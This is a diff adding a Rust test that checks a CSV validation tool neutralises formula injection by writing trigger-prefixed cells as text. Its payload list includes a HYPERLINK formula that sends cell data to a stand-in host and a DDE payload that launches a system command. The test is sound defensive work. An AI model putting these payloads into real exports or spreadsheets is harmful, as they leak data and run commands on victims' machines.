@@ -433,6 +433,38 @@ fn check_csv_gives_the_same_output_on_one_thread_and_on_several() {
 
 #[test]
 #[cfg(feature = "batch")]
+fn check_csv_writes_cells_that_would_start_a_formula_as_text() {
+    let payloads = [
+        "=HYPERLINK(\"http://x.test/?\"&C2)",
+        "+cmd|' /C calc'!A0",
+        "-2+3",
+        "@SUM(1)",
+        "\t=1",
+        "\r=1",
+        "＝1",
+        "＋1",
+        "－1",
+        "＠1",
+    ];
+    let mut input = String::from("企业名称,营业收入（万元）,=1+1\r\n");
+    for payload in payloads {
+        let quoted = format!("\"{}\"", payload.replace('"', "\"\""));
+        input.push_str(&format!("{quoted},{quoted},{quoted}\r\n"));
+    }
+    let out = run(&["check", "--csv", "-", "--as-of", "2026-11-29"], input.as_bytes());
+    assert_eq!(out.status.code(), Some(2), "the amounts are bad cells: {}", text(&out.stderr));
+    let table = csv_table(&out.stdout);
+    assert_eq!(table[0][2], "'=1+1");
+    for (row, payload) in table[1..].iter().zip(payloads) {
+        assert_eq!(row[..3], [format!("'{payload}"), format!("'{payload}"), format!("'{payload}")]);
+    }
+    for cell in table.iter().flatten() {
+        assert!(!cell.starts_with(['=', '+', '-', '@', '\t', '\r', '＝', '＋', '－', '＠']), "{cell:?}");
+    }
+}
+
+#[test]
+#[cfg(feature = "batch")]
 fn check_csv_reads_an_xlsx_too() {
     // The same two enterprises as CSV and as the first sheet of an .xlsx.
     let rows = [
